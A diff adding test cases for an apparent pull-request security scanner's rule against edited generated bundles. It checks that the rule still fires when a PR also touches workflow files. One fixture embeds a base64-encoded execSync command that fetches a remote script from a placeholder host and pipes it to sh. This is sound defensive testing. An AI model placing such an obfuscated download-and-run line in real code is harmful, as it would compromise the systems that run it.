@@ -359,6 +359,31 @@ describe('generated-code-edited: a bundle the repository compares with a rebuild
   });
 });
 
+describe('generated-code-edited beside a workflow edit', () => {
+  const payloaded = makeFile('dist/index.js', { patch: hunk(["  execSync(Buffer.from('Y3VybCAtc1NmTCBodHRwczovL2V4YW1wbGUuaW52YWxpZC9tLnB5IHwgc2g=', 'base64').toString());"]) });
+  const workflow = makeFile('.github/workflows/ci.yml', { patch: hunk(['      - uses: actions/setup-node@v4'], ['      - uses: actions/setup-node@v3']) });
+  const run = (files: SnapshotFile[], checks: string[] = []) =>
+    scanCodeChanges(
+      makeSnapshot({ title: 'ci: bump setup-node', files, commits: [makeCommit({ message: 'ci: bump setup-node' })], checkRuns: checks.map((name) => makeCheckRun(name, { status: 'completed', conclusion: 'success' })) }),
+      (path) => classifier.info(path),
+    ).map((f) => `${f.id} ${f.severity}`);
+
+  it('still reports a bundle changed on its own when the PR also edits a workflow or Dependabot file', () => {
+    expect(run([payloaded, workflow])).toContain('generated-code-edited medium');
+    expect(run([payloaded, makeFile('.github/dependabot.yml', { patch: hunk(['    interval: weekly'], ['    interval: daily']) })])).toContain('generated-code-edited medium');
+  });
+
+  it("does not let a passing check-dist vouch when the PR changes the workflows that run it", () => {
+    expect(run([payloaded], ['check-dist'])).not.toContain('generated-code-edited medium');
+    expect(run([payloaded, workflow], ['check-dist'])).toContain('generated-code-edited medium');
+  });
+
+  it('stays quiet when the bundle comes with its source or build configuration, workflow or not', () => {
+    expect(run([payloaded, workflow, makeFile('src/main.ts', { patch: hunk(['  run();']) })]).filter((f) => f.startsWith('generated-code-edited'))).toEqual([]);
+    expect(run([payloaded, workflow, makeFile('rollup.config.mjs', { patch: hunk(['  output: { format: "es" },']) })]).filter((f) => f.startsWith('generated-code-edited'))).toEqual([]);
+  });
+});
+
 describe('generated-code-edited: what a rebuilt bundle carries is not a payload (tj-actions/changed-files #2769, create-pull-request #2878)', () => {
   it('keeps payload findings on a bundle read as code, not the logic rules a rebuild of its libraries trips, nor the claim', () => {
     const library = makeFile('dist/index.js', {
